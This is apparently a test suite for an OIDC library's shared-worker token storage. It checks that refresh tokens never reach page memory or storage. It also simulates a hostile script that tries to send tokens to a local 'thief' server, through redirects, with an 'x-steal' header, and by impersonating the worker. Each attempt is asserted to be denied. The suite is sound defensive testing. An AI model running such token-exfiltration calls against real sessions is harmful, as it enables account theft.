// What a storage in a worker keeps from a page: the refresh token, whatever a script of the page does. What the provider issued is known from its side.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { open } from '../browsers/index.mjs';
import { bodyOf, close, listen } from '../servers/http.mjs';
import { openTab } from './support/harness.mjs';
import { everythingKept } from './support/kept.mjs';
import { heapOf, withSharedWorker } from './support/shared-worker.mjs';
import { found, spy } from './support/spy.mjs';
import { startWorld } from './support/world.mjs';

/** A world that notes the refresh tokens which the provider issued, and the requests in which they came to it. */
async function startWatched() {
  const issued = [];
  const presented = [];
  const world = await startWorld({
    watch: ({ path, body }, answered) => {
      for (const token of issued) if (body.includes(token)) presented.push(path);
      if (path !== '/token') return;
      try {
        const { refresh_token: token } = JSON.parse(answered);
        if (token?.length > 1 && !issued.includes(token)) issued.push(token);
      } catch {
        // Not an answer with tokens.
      }
    },
  });
  return { world, issued, presented };
}

describe('the refresh token', () => {
  let world;
  let issued;
  let browser;
  before(async () => {
    ({ world, issued } = await startWatched());
    browser = await open('chromium');
    await browser.context.addInitScript(spy);
  });
  after(async () => {
    await browser?.close();
    await world.close();
  });

  /** Signs in, refreshes, and looks everywhere: which places hold one of the refresh tokens. */
  async function places(storage) {
    issued.length = 0;
    const tab = await openTab(world, browser, { storage });
    await tab.signIn();
    await tab.do('refreshSession');
    await tab.do('getTokens', { resource: world.api.audience });
    const other = await openTab(world, browser, { storage });
    await other.do('refreshSession');
    await tab.page.waitFor((at) => window.harness.heardAt[at], (await other.do('getSession')).expiresAt);
    assert.equal(issued.length, 4);
    const secrets = [...issued];
    const seen = {};
    for (const { page } of [tab, other]) {
      const session = await browser.context.newCDPSession(page.raw);
      const heap = await heapOf((...args) => session.send(...args), (...args) => session.on(...args));
      const { texts, memory } = await page.evaluate(found, secrets);
      const kept = await page.evaluate(everythingKept);
      const has = (text) => secrets.some((secret) => text.includes(secret));
      for (const [place, there] of Object.entries({ heap: has(heap), texts, memory, kept: has(kept) })) seen[place] ||= there;
    }
    await tab.do('signOut', { federated: false, revoke: true });
    await other.close();
    await tab.close();
    return seen;
  }

  test('t421_is_nowhere_in_the_pages: not on their heaps, in no text that went through them, in no memory of WebAssembly, in no storage', async () => {
    assert.deepEqual(await places('worker'), { heap: false, texts: false, memory: false, kept: false });
  });

  test('t421_the_same_search_finds_it where it is kept in the page', async () => {
    assert.deepEqual(await places(undefined), { heap: true, texts: true, memory: true, kept: true });
  });

  test('is in the worker, and after a sign-out that revokes it is there no more', async () => {
    issued.length = 0;
    const tab = await openTab(world, browser, { storage: 'worker' });
    await tab.signIn();
    const heap = () => withSharedWorker(browser, (send) => heapOf(send, send.on));
    assert.ok((await heap()).includes(issued[0]));
    await tab.do('signOut', { federated: false, revoke: true });
    assert.ok(!(await heap()).includes(issued[0]));
    await tab.close();
  });
});

describe('a hostile script that speaks with the worker itself', () => {
  let world;
  let issued;
  let presented;
  let browser;
  let tab;
  let thief;
  const stolen = [];
  before(async () => {
    ({ world, issued, presented } = await startWatched());
    browser = await open('chromium');
    thief = createServer(async (request, response) => {
      stolen.push(`${request.url}\n${JSON.stringify(request.headers)}\n${await bodyOf(request)}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'content-type': 'application/json' }).end('{"refresh_token":"mine"}');
    });
    thief.origin = await listen(thief, {});
    tab = await openTab(world, browser, { storage: 'worker' });
    await tab.signIn();
    await tab.do('refreshSession');
    // A port of its own, as any script of the origin can make one.
    await tab.page.evaluate((name) => {
      const { port } = new SharedWorker('/oxidc/worker.js', { name, extendedLifetime: true });
      const answers = new Map();
      port.onmessage = ({ data }) => answers.get(data.id)?.(data);
      let id = 0;
      window.ask = (asked) => new Promise((resolve) => { id += 1; answers.set(id, resolve); port.postMessage({ ...asked, id }); });
    }, JSON.stringify([1, world.provider.issuer, 'spa', undefined, undefined]));
  });
  after(async () => {
    await browser?.close();
    await Promise.all([world.close(), close(thief)]);
  });

  const ask = (asked) => tab.page.evaluate((message) => window.ask(message), asked);
  const key = () => `oxidc:session:${world.provider.issuer.length}:${world.provider.issuer}:spa`;
  const record = async () => (await ask({ do: 'load', key: key() })).outcome.record;
  const handle = async () => JSON.parse(await record()).refreshToken;
  const send = (url, body, more = {}) => ask({ do: 'http', method: 'POST', url, headers: [['content-type', 'application/x-www-form-urlencoded']], body: String(new URLSearchParams({ client_id: 'spa', ...body })), timeout: 5000, limit: 1e6, ...more });
  const refresh = async (url, more) => send(url, { grant_type: 'refresh_token', refresh_token: await handle(), ...more });
  const isSecret = (answer) => issued.some((token) => JSON.stringify(answer).includes(token));
  const token = () => `${world.provider.issuer}/token`;

  test('finds a handle in the record, and no token', async () => {
    assert.match(await handle(), /^oxidc\.[0-9a-f]{8}\.[-0-9a-f]{36}$/);
    assert.ok(!isSecret(await record()));
  });

  test('t420_can_get_an_access_token with it, which it could anyway, and no refresh token', async () => {
    const { outcome } = await refresh(token());
    assert.equal(outcome.status, 200);
    const { access_token: accessToken, refresh_token: next } = JSON.parse(outcome.body);
    assert.ok(accessToken);
    assert.match(next, /^oxidc\./);
    assert.ok(!isSecret(outcome));
    // What the thief did not store is stored for it, so that the session goes on.
    const stands = await record();
    const { outcome: swapped } = await ask({ do: 'swap', key: key(), expected: stands, value: stands.replace(JSON.parse(stands).refreshToken, next) });
    assert.deepEqual(swapped, { swapped: true });
  });

  for (const [where, url] of [
    ['another server', () => `${thief.origin}/token`],
    ['another endpoint of the provider', () => `${world.provider.issuer}/me`],
    ['the token endpoint with a query', () => `${token()}?a`],
    ['the token endpoint with a fragment', () => `${token()}#a`],
    ['the token endpoint in another case', () => token().replace('/token', '/Token')],
    ['an endpoint below', () => `${token()}/revocation/x`],
    ['the token endpoint with credentials', () => token().replace('http://', 'http://a@')],
    ['no address', () => null],
    ['an object', () => ({ toString: 'x' })],
  ]) {
    test(`cannot send the token to ${where}`, async () => {
      const before = presented.length;
      const answer = await refresh(url());
      assert.equal(answer.failed, 'denied');
      assert.ok(!isSecret(answer));
      assert.deepEqual(presented.slice(before), []);
      assert.deepEqual(stolen, []);
    });
  }

  test('cannot send the token for another client, or in the place of another parameter', async () => {
    const before = presented.length;
    assert.equal((await refresh(token(), { client_id: 'device' })).failed, 'denied');
    const own = await handle();
    await send(token(), { grant_type: 'authorization_code', code: own, redirect_uri: own, code_verifier: own });
    await send(token(), { grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange', subject_token: own, scope: own });
    await send(token(), { grant_type: 'refresh_token', refresh_token: `${own} ${own}` });
    assert.deepEqual(presented.slice(before), []);
  });

  test('cannot choose a header, a method or a redirect', async () => {
    world.provider.rule({ path: '/token' }, ({ reply, cors }) => reply({ status: 307, headers: { ...cors, location: `${thief.origin}/redirected` }, body: Buffer.from('') }), 1);
    assert.equal((await refresh(token())).failed, 'redirected');
    const before = presented.length;
    const answer = await send(token(), { grant_type: 'refresh_token', refresh_token: await handle() }, { method: 'GET', headers: [['x-steal', '1'], ['authorization', 'Basic eA==']] });
    assert.ok(!isSecret(answer));
    assert.ok(answer.outcome.status < 500);
    const { method, path } = world.provider.log.findLast(({ path: to }) => to === '/token');
    assert.deepEqual([method, path, presented.slice(before)], ['POST', '/token', ['/token']]);
    assert.deepEqual(stolen, []);
  });

  const echoes = {
    'in an error': ({ sent }) => JSON.stringify({ error: 'invalid_request', error_description: `not ${sent}!` }),
    'escaped': ({ sent }) => `{"error":"invalid_request","error_description":"${[...sent].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
    'as a member\'s name': ({ sent }) => JSON.stringify({ error: 'invalid_request', [sent]: 1 }),
    'as no JSON': ({ sent }) => `<p>${sent}`,
    'as JSON that was cut off': ({ sent }) => `{"error":"invalid_request","refresh_token":"${sent}`,
    'twice, the first new': ({ fresh }) => `{"access_token":"a","token_type":"Bearer","refresh_token":"${fresh}","refresh_token":"x"}`,
    'under an escaped name': ({ fresh }) => `{"access_token":"a","token_type":"Bearer","refresh\\u005ftoken":"${fresh}"}`,
    'deeper': ({ fresh }) => `{"data":[{"refresh_token" : ["x","${fresh}"]}]}`,
  };
  for (const [how, body] of Object.entries(echoes)) {
    test(`does not read a token that the provider repeats ${how}`, async () => {
      let sent;
      const fresh = `fresh-${Math.random()}`;
      issued.push(fresh);
      world.provider.rule({ path: '/token' }, ({ body: request, reply, cors }) => {
        sent = new URLSearchParams(String(request)).get('refresh_token');
        reply({ status: 400, headers: { ...cors, 'content-type': 'application/json', 'www-authenticate': `Bearer error="${sent}"` }, body: Buffer.from(body({ sent, fresh })) });
      }, 1);
      const answer = await refresh(token());
      assert.ok(issued.includes(sent), 'the provider had the token');
      assert.equal(answer.outcome.status, 400);
      const plain = answer.outcome.body.replace(/\\u([0-9a-f]{4})/g, (_, code) => String.fromCharCode(Number.parseInt(code, 16)));
      assert.ok(!isSecret([answer, plain]));
    });
  }

  test('breaks nothing with messages that are none', async () => {
    for (const asked of [{}, { do: 'x' }, { do: 'http' }, { do: 'http', url: 1, headers: 7, body: {} }, { do: 'swap' }, { do: 'load', key: {} }, { do: 'cancel', id: 99 }]) {
      await Promise.race([ask(asked), ask({ do: 'load', key: 'x' })]);
    }
    assert.ok((await tab.do('refreshSession')).expiresAt);
  });

  test('cannot take another worker\'s place: one that trusts it has none of the tokens', async () => {
    const stands = await record();
    const answer = await tab.page.evaluate(async ({ issuer, endpoint, body }) => {
      const { port } = new SharedWorker('/oxidc/worker.js', { name: JSON.stringify([1, issuer, 'spa', endpoint, endpoint]), extendedLifetime: true });
      return new Promise((resolve) => {
        port.onmessage = ({ data }) => { if (data.id === 1) resolve(data); };
        port.postMessage({ id: 1, do: 'http', method: 'POST', url: endpoint, headers: [], body, timeout: 5000, limit: 1e6 });
      });
    }, { issuer: world.provider.issuer, endpoint: `${thief.origin}/token`, body: String(new URLSearchParams({ client_id: 'spa', grant_type: 'refresh_token', refresh_token: JSON.parse(stands).refreshToken })) });
    assert.equal(answer.failed, 'lost');
    assert.deepEqual(stolen, []);
  });

  test('cannot refresh with the handle of a session that ended', async () => {
    const own = await handle();
    await tab.do('signOut', { federated: false });
    const before = presented.length;
    const answer = await send(token(), { grant_type: 'refresh_token', refresh_token: own });
    assert.deepEqual(JSON.parse(answer.outcome.body), { error: 'invalid_grant' });
    assert.deepEqual(presented.slice(before), []);
    for (let time = 0; time < 2; time += 1) assert.equal((await send(`${token()}/revocation`, { token: own, token_type_hint: 'refresh_token' })).outcome.status, 200);
    assert.deepEqual(presented.slice(before), ['/token/revocation'], 'the second time there is nothing left to send');
  });

  test('t421_at_no_time was the token anywhere but at the two endpoints', () => {
    assert.ok(presented.length > 5);
    assert.deepEqual([...new Set(presented)].sort(), ['/token', '/token/revocation']);
    assert.deepEqual(stolen, []);
  });
});
